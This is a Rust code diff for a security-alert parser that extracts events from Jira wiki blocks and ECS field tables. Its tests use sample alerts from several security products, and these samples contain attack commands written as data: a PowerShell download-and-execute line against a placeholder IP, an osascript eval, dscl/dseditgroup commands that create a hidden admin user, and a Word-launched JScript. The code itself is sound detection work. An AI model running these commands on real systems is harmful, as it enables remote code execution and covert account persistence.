@@ -760,6 +760,26 @@ fn embedded_event_in(doc: &Json) -> Option<Map<String, Json>> {
             candidates.push((block, false));
             rest = &body[close + 3..];
         }
+        // Jira's wiki markup fences its blocks as `{noformat}…{noformat}` and
+        // `{code:lang}…{code}` (an alert a SIEM's webhook filed as an issue).
+        for (open, close) in [("{noformat}", "{noformat}"), ("{code", "{code}")] {
+            let mut rest = t;
+            while let Some(i) = rest.find(open) {
+                let body = &rest[i + open.len()..];
+                // `{code:powershell}`: the tag's options end at its brace.
+                let body = if open == "{code" {
+                    match body.split_once('}') {
+                        Some((_, b)) => b,
+                        None => break,
+                    }
+                } else {
+                    body
+                };
+                let Some(end) = body.find(close) else { break };
+                candidates.push((&body[..end], false));
+                rest = &body[end + close.len()..];
+            }
+        }
         // JSON after prose (a ticket's description: a sentence, then the event), from a line
         // that opens an object to the end of that object.
         let starts = t
@@ -777,7 +797,14 @@ fn embedded_event_in(doc: &Json) -> Option<Map<String, Json>> {
         let labelled = labelled_lines(t);
         for (c, whole) in candidates {
             let c = c.trim();
-            let read = if whole && labelled.is_some() && !c.starts_with('{') {
+            let table = if c.starts_with(['{', '[']) {
+                None
+            } else {
+                field_table(c)
+            };
+            let read = if let Some(m) = table {
+                vec![from_json(Json::Object(m), "")]
+            } else if whole && labelled.is_some() && !c.starts_with('{') {
                 vec![from_json(
                     Json::Object(labelled.clone().unwrap_or_default()),
                     "",
@@ -807,6 +834,49 @@ fn embedded_event_in(doc: &Json) -> Option<Map<String, Json>> {
         }
     }
     None
+}
+
+/// A block of `ecs.field   value` lines (an alert's fields copied from a console's flyout into a
+/// case comment), as dotted ECS fields: at least two, one of them the process's. A note after a
+/// value (`MBP-1   (macOS 15.5)`) is dropped, except from command lines.
+fn field_table(block: &str) -> Option<Map<String, Json>> {
+    let mut m = Map::new();
+    for line in block.lines() {
+        let line = line.trim();
+        // A Markdown table's row (`| process.command_line | `cmd` |`) or an aligned line.
+        let (k, v) = if let Some(row) = line.strip_prefix('|') {
+            let mut cells = row.split('|').map(str::trim);
+            match (cells.next(), cells.next()) {
+                (Some(k), Some(v)) => (k, v.trim_matches('`').trim()),
+                _ => continue,
+            }
+        } else {
+            let Some(i) = line.find(char::is_whitespace) else {
+                continue;
+            };
+            (&line[..i], line[i..].trim())
+        };
+        let key_like = (k.contains('.') || k == "@timestamp")
+            && k.chars()
+                .all(|c| c.is_ascii_alphanumeric() || "._@".contains(c));
+        if !key_like || v.is_empty() {
+            continue;
+        }
+        let v = if k.ends_with("command_line") {
+            v
+        } else {
+            v.split("  ")
+                .next()
+                .unwrap_or(v)
+                .split(" (")
+                .next()
+                .unwrap_or(v)
+                .trim()
+        };
+        m.insert(k.to_owned(), s(v));
+    }
+    let process = ["process.command_line", "process.executable", "process.name"];
+    (m.len() >= 2 && process.iter().any(|k| m.contains_key(*k))).then_some(m)
 }
 
 /// A description written as `Label: value` lines (a ticket's or notification's text: `Host:`,
@@ -5725,5 +5795,51 @@ mod tests {
         assert_eq!(get(&a, "user.name"), "www-data");
         assert_eq!(get(&a, "user.audit.name"), "alice");
         assert_eq!(a.doc["process"]["interactive"], true);
+    }
+
+    #[test]
+    fn cases_tickets_and_wrapped_signals() {
+        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
+        // A case comment holding the alert's fields as a Markdown table, and as aligned lines
+        // in a fence (a console's flyout copied).
+        let md = json!({"title": "Cron job created", "comments": [{"comment": "Enrichment:\n\n| field | value |\n|---|---|\n| host.name | lin-1 (Ubuntu 24.04) |\n| process.command_line | `/bin/sh /var/lib/dpkg/info/x.postinst configure` |\n| process.parent.command_line | `/usr/bin/dpkg --configure --pending` |\n"}]});
+        let a = from_json(md, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "/bin/sh /var/lib/dpkg/info/x.postinst configure"
+        );
+        assert_eq!(get(&a, "host.name"), "lin-1");
+        let fenced = json!({"title": "JXA", "comments": [{"comment": "Copied:\n\n```\nhost.name                  MBP-1   (macOS 15.5)\nprocess.command_line       osascript -l JavaScript -e eval(x)\nprocess.executable         /usr/bin/osascript\n```\n"}]});
+        let a = from_json(fenced, "x").unwrap();
+        assert_eq!(get(&a, "process.executable"), "/usr/bin/osascript");
+        assert_eq!(get(&a, "host.name"), "MBP-1");
+        // A Jira issue with the raw event in a `{noformat}` block.
+        let jira = json!({"key": "SEC-1", "fields": {"summary": "Script block", "description": "h3. Splunk alert\n{noformat}\n<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID><Computer>WS1</Computer></System><EventData><Data Name='ScriptBlockText'>iex (iwr http://203.0.113.7/a)</Data></EventData></Event>\n{noformat}\n"}});
+        let a = from_json(jira, "x").unwrap();
+        assert!(get(&a, "powershell.file.script_block_text").contains("iwr"));
+        // A Sumo Logic insight: its signals' records.
+        let insight = json!({"data": {"readableId": "INSIGHT-1", "signals": [{"allRecords": [
+            {"timestamp": 1000, "metadata_vendor": "osquery", "baseImage": "/usr/bin/dscl", "commandLine": "/usr/bin/dscl . -create /Users/_x", "device_hostname": "m1", "device_os": "macos"}]},
+            {"allRecords": [{"timestamp": 2000, "metadata_vendor": "osquery", "baseImage": "/usr/sbin/dseditgroup", "commandLine": "/usr/sbin/dseditgroup -o edit -a _x -t user admin", "device_hostname": "m1"}]}]}});
+        let a = from_json(insight, "x").unwrap();
+        assert!(get(&a, "process.command_line").starts_with("/usr/sbin/dseditgroup"));
+        assert!(get(&a, "process.command_line").contains("\n/usr/bin/dscl . -create"));
+        assert_eq!(get(&a, "host.os.type"), "macos");
+        // A SentinelOne threat whose arguments are the Script Host's switches.
+        let s1 = json!({"threatInfo": {"threatId": "1", "filePath": "\\Device\\HarddiskVolume3\\Users\\k\\AppData\\Local\\Temp\\p.log",
+            "maliciousProcessArguments": "//E:jscript //B \"C:\\Users\\k\\AppData\\Local\\Temp\\p.log\"", "originatorProcess": "WINWORD.EXE"},
+            "agentRealtimeInfo": {"agentComputerName": "LT1", "agentOsType": "windows"}});
+        let a = from_json(s1, "x").unwrap();
+        assert_eq!(get(&a, "process.name"), "wscript.exe");
+        assert_eq!(get(&a, "process.parent.name"), "WINWORD.EXE");
+        // An argument vector as a list in a rule's context (Panther's `alertContext.argv`).
+        let panther = json!({"alertId": "a1", "title": "Shell from python", "alertContext": {"host": "www-1", "exe": "/usr/bin/dash",
+            "argv": ["/bin/sh", "-c", "systemctl reload nginx"], "parent_argv": ["/usr/bin/python3", "/usr/bin/certbot", "renew"]}});
+        let a = from_json(panther, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "/bin/sh -c 'systemctl reload nginx'"
+        );
+        assert!(get(&a, "process.parent.command_line").contains("certbot renew"));
     }
 }
